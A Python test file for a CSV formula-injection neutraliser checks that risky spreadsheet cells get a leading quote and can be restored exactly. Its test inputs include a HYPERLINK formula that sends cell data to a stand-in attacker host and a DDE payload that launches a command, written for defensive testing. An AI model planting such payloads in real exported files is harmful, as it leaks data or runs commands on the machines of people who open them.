"""Formula injection: CSV cells a spreadsheet would run are written as text and read back whole."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from servicegap.lib.csvsafe import RISKY, is_plain_number, neutralise, restore

# Few characters, so that quotes, risky characters and numbers meet often; then any text at all.
pieces = st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", "2.5", "e", "e-05", ".", "a"])
cells = st.lists(pieces, max_size=8).map("".join) | st.text()


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
     "\t=1+1", "\r=1+1", "=", "-", "+", "@", "-1.25x", "--1", "-inf", "-1,5"],
)  # fmt: skip
def test_it_prefixes_a_cell_a_spreadsheet_would_run_with_one_quote(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    "text", ["-1.25", "-3", "-1e-05", "+4", "-0.5", "-.5", "-5.", "-2E+3", "1e-05", "42"]
)
def test_it_leaves_a_plain_number_alone_even_when_it_is_negative(text):
    assert is_plain_number(text)
    assert neutralise(text) == text == restore(text)


@pytest.mark.parametrize("text", ["", "Greets by name", "don't", "a=b", "'", "''", "'a", "1-2"])
def test_it_leaves_harmless_text_alone(text):
    assert neutralise(text) == text == restore(text)


def test_text_that_already_starts_with_a_quote_before_a_risky_character_gets_one_more():
    assert neutralise("'=1+1") == "''=1+1"
    assert neutralise("''-3") == "'''-3"
    assert restore("''=1+1") == "'=1+1"


def test_restore_takes_off_only_one_quote_and_only_before_a_risky_character():
    assert restore("'=1+1") == "=1+1"
    assert restore("'-3") == "-3"
    assert restore("'hello") == "'hello"
    assert restore("'") == "'"


@given(cells)
@example("'=x")
@example("-1e-05")
@example("'-3")
def test_restore_gives_back_every_neutralised_string(text):
    assert restore(neutralise(text)) == text


@given(cells)
def test_a_neutralised_cell_never_starts_with_a_risky_character_unless_it_is_a_plain_number(text):
    out = neutralise(text)
    assert out[:1] not in RISKY or is_plain_number(out)
    assert out in (text, "'" + text)
